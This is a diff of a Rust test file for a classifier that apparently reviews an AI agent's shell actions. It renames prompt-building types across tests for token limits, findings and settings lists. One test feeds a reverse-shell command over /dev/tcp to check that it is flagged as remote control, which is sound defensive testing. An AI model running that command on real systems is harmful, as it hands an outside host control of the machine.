@@ -3,7 +3,8 @@
 
 use portcullis_classifier::estimate_tokens;
 use portcullis_classifier::prompt::{
-    CustomLists, Prompt, Section, Sections, SessionFacts, Templates, build, label_of, rule_of_finding,
+    CustomLists, Prompt, PromptList, PromptLists, PromptSession, PromptTemplates, build, label_of,
+    rule_of_finding,
 };
 use portcullis_core::findings::FINDINGS;
 use portcullis_core::{Case, Context, FindingReport, Mode, Policy, ToolCall};
@@ -38,13 +39,13 @@ fn findings_of(command: &str) -> Vec<FindingReport> {
     case.decide(&policy).unwrap().into_verdict().findings
 }
 
-fn prompt_of(session: &SessionFacts, findings: &[FindingReport]) -> Prompt {
+fn prompt_of(session: &PromptSession, findings: &[FindingReport]) -> Prompt {
     let (history, action) = (vec!["{\"user\":\"go\"}\n".to_owned()], "{\"Bash\":\"ls\"}\n".to_owned());
-    build(&Templates::built_in(), &Sections::built_in(), session, findings, history, action)
+    build(&PromptTemplates::built_in(), &PromptLists::built_in(), session, findings, history, action)
 }
 
 fn default_system() -> String {
-    Templates::built_in().fill(&Sections::built_in())
+    PromptTemplates::built_in().fill(&PromptLists::built_in())
 }
 
 fn strings(texts: &[&str]) -> Vec<String> {
@@ -52,8 +53,8 @@ fn strings(texts: &[&str]) -> Vec<String> {
 }
 
 /// A session with the same text wherever one can stand.
-fn session_full_of(text: &str) -> SessionFacts {
-    SessionFacts {
+fn session_full_of(text: &str) -> PromptSession {
+    PromptSession {
         project: text.to_owned(),
         cwd: text.to_owned(),
         deny_rules: vec![text.to_owned()],
@@ -124,8 +125,8 @@ fn the_default_system_prompt_stays_within_its_tokens() {
 #[test]
 fn the_system_prompt_holds_every_entry_and_nothing_of_the_session() {
     let system = default_system();
-    for section in Section::ALL {
-        for entry in Sections::built_in().list(section) {
+    for section in PromptList::ALL {
+        for entry in PromptLists::built_in().list(section) {
             assert!(system.contains(&format!("\n- {entry}\n")), "{entry}");
         }
     }
@@ -145,7 +146,7 @@ fn the_system_prompt_says_nothing_of_the_form_of_a_verdict() {
 
 #[test]
 fn every_built_in_entry_is_a_label_and_prose() {
-    for section in Section::ALL {
+    for section in PromptList::ALL {
         let entries = section.built_in();
         let mut labels: Vec<String> = entries.iter().map(|entry| label_of(entry)).collect();
         for (entry, label) in entries.iter().zip(&labels) {
@@ -162,17 +163,17 @@ fn every_built_in_entry_is_a_label_and_prose() {
 
 #[test]
 fn a_soft_rule_says_what_must_be_named_and_a_hard_one_does_not() {
-    for entry in Section::SoftDeny.built_in() {
+    for entry in PromptList::SoftDeny.built_in() {
         assert_eq!(entry.matches(". Named: ").count(), 1, "{entry}");
     }
-    for entry in Section::HardDeny.built_in() {
+    for entry in PromptList::HardDeny.built_in() {
         assert!(!entry.contains("Named:"), "{entry}");
     }
 }
 
 #[test]
 fn labels_that_the_templates_speak_of_exist() {
-    let labels = Sections::built_in().labels();
+    let labels = PromptLists::built_in().labels();
     let system = default_system();
     for label in ["Deny Rule Bypass", "User Boundary", "Reviewer Bypass"] {
         assert!(labels.iter().any(|known| known == label), "{label}");
@@ -223,7 +224,7 @@ fn the_ways_to_read_an_action_and_the_users_words_are_told() {
 
 #[test]
 fn every_category_of_findings_has_a_rule_in_the_default_prompt() {
-    let labels = Sections::built_in().labels();
+    let labels = PromptLists::built_in().labels();
     for finding in FINDINGS {
         let rule = rule_of_finding(finding.code);
         let is_covered = rule.is_some_and(|rule| labels.iter().any(|label| label == rule));
@@ -233,7 +234,7 @@ fn every_category_of_findings_has_a_rule_in_the_default_prompt() {
 
 #[test]
 fn a_session_is_written_as_quoted_lines() {
-    let session = SessionFacts {
+    let session = PromptSession {
         project: "/code/app".to_owned(),
         cwd: "/code/app/sub".to_owned(),
         deny_rules: strings(&["Bash(rm *)", "Agent", " Bash(rm *) ", ""]),
@@ -263,7 +264,7 @@ fn a_session_is_written_as_quoted_lines() {
 
 #[test]
 fn findings_are_facts_with_their_rule_and_what_must_be_named() {
-    let prompt = prompt_of(&SessionFacts::default(), &findings_of("git push --force origin topic"));
+    let prompt = prompt_of(&PromptSession::default(), &findings_of("git push --force origin topic"));
     assert_eq!(
         prompt.facts,
         "<facts>\n\
@@ -272,7 +273,8 @@ fn findings_are_facts_with_their_rule_and_what_must_be_named() {
          \"must_name\":\"the forced push and the branch\",\"cleared\":false}\n\
          </facts>\n"
     );
-    let hard = prompt_of(&SessionFacts::default(), &findings_of("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"));
+    let hard =
+        prompt_of(&PromptSession::default(), &findings_of("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"));
     assert!(hard.facts.contains("\"rule\":\"Remote Control\""), "{}", hard.facts);
     assert!(hard.facts.contains("\"must_name\":null"), "{}", hard.facts);
 }
@@ -280,7 +282,7 @@ fn findings_are_facts_with_their_rule_and_what_must_be_named() {
 #[test]
 fn no_finding_is_told_to_be_no_proof() {
     assert_eq!(
-        prompt_of(&SessionFacts::default(), &[]).facts,
+        prompt_of(&PromptSession::default(), &[]).facts,
         "<facts>\n{\"analysis\":\"found nothing, and could not prove the action harmless\"}\n</facts>\n"
     );
 }
@@ -288,9 +290,9 @@ fn no_finding_is_told_to_be_no_proof() {
 #[test]
 fn a_finding_names_no_rule_that_the_settings_took_away() {
     let own = strings(&["Only: this"]);
-    let sections = Sections::resolve(CustomLists { soft_deny: Some(&own), ..CustomLists::default() });
+    let sections = PromptLists::resolve(CustomLists { soft_deny: Some(&own), ..CustomLists::default() });
     let findings = findings_of("git push --force origin topic");
-    let (templates, session) = (Templates::built_in(), SessionFacts::default());
+    let (templates, session) = (PromptTemplates::built_in(), PromptSession::default());
     let prompt = build(&templates, &sections, &session, &findings, Vec::new(), String::new());
     assert!(prompt.facts.contains("\"finding\":\"PC007\",\"category\""), "{}", prompt.facts);
 }
@@ -317,8 +319,9 @@ fn an_entry_of_the_settings_stays_one_item_without_tags() {
             allow: Some(&own),
         };
         let permissions = "{{environment}}\n{{hard_deny}}\n{{soft_deny}}\n{{allow}}".to_owned();
-        let templates = Templates::from_texts(Some("a".into()), Some("b".into()), Some(permissions)).unwrap();
-        let system = templates.fill(&Sections::resolve(lists));
+        let templates =
+            PromptTemplates::from_texts(Some("a".into()), Some("b".into()), Some(permissions)).unwrap();
+        let system = templates.fill(&PromptLists::resolve(lists));
         let lines: Vec<&str> = system.lines().collect();
         assert_eq!(lines.len(), 8, "{system}");
         assert!(lines[4..].iter().all(|line| line.starts_with("- ")), "{system}");
@@ -328,7 +331,7 @@ fn an_entry_of_the_settings_stays_one_item_without_tags() {
 
 #[test]
 fn the_same_facts_in_another_order_make_the_same_bytes() {
-    let mut session = SessionFacts {
+    let mut session = PromptSession {
         project: "/code/app".to_owned(),
         cwd: "/code/app".to_owned(),
         deny_rules: strings(&["b", "a", "c", "a"]),
@@ -357,10 +360,10 @@ fn what_the_action_is_changes_neither_system_nor_session() {
 
 #[test]
 fn too_many_rules_and_findings_are_left_out_and_counted() {
-    let session = SessionFacts {
+    let session = PromptSession {
         deny_rules: (0..250).map(|number| format!("Bash({number:03} {})", "x".repeat(400))).collect(),
         repository_rules: Vec::new(),
-        ..SessionFacts::default()
+        ..PromptSession::default()
     };
     let numbered = |number: usize| finding_full_of(&format!("{number:03} {}", "y".repeat(1_000)));
     let findings: Vec<FindingReport> = (0..60).map(numbered).collect();
@@ -382,13 +385,13 @@ fn instructions_share_their_tokens() {
         ("b.md".into(), short.clone()),
         ("c.md".into(), long("\u{202e}\n")),
     ];
-    let session = SessionFacts { instructions, ..SessionFacts::default() };
+    let session = PromptSession { instructions, ..PromptSession::default() };
     let text = prompt_of(&session, &[]).session;
     assert!(estimate_tokens(&text) < 4_300, "{}", estimate_tokens(&text));
     assert!(text.contains("| short and whole\n</project_instructions>"));
     assert_eq!(text.matches("(the rest is left out)\n").count(), 2);
     let instructions = (0..40).map(|number| (format!("{number:02}.md"), long("z"))).collect();
-    let many = prompt_of(&SessionFacts { instructions, ..SessionFacts::default() }, &[]).session;
+    let many = prompt_of(&PromptSession { instructions, ..PromptSession::default() }, &[]).session;
     assert_eq!(many.matches("<project_instructions").count(), 16);
     assert!(many.contains("{\"instruction_files_left_out\":24}\n"));
     assert!(estimate_tokens(&many) < 5_000, "{}", estimate_tokens(&many));
@@ -399,7 +402,7 @@ proptest! {
 
     #[test]
     fn no_text_changes_the_structure(text in any::<String>(), name in any::<String>(), rule in "\\PC*[<\"\\n]\\PC*") {
-        let session = SessionFacts {
+        let session = PromptSession {
             project: text.clone(),
             cwd: name.clone(),
             deny_rules: vec![rule.clone()],
@@ -415,12 +418,12 @@ proptest! {
 
     #[test]
     fn no_entry_of_the_settings_is_more_than_one_item(entries in prop::collection::vec(any::<String>(), 1..6)) {
-        let sections = Sections::resolve(CustomLists { allow: Some(&entries), ..CustomLists::default() });
-        let system = Templates::built_in().fill(&sections);
-        let plain = Templates::built_in().fill(&Sections::built_in());
+        let sections = PromptLists::resolve(CustomLists { allow: Some(&entries), ..CustomLists::default() });
+        let system = PromptTemplates::built_in().fill(&sections);
+        let plain = PromptTemplates::built_in().fill(&PromptLists::built_in());
         let tail = |text: &str| text.rsplit_once("## Exceptions\n").map(|(_, tail)| tail.to_owned()).unwrap();
-        let other = tail(&plain).lines().count() - Section::Allow.built_in().len();
-        let items = sections.list(Section::Allow).len().max(1);
+        let other = tail(&plain).lines().count() - PromptList::Allow.built_in().len();
+        let items = sections.list(PromptList::Allow).len().max(1);
         prop_assert_eq!(tail(&system).lines().count(), other + items);
     }
 }
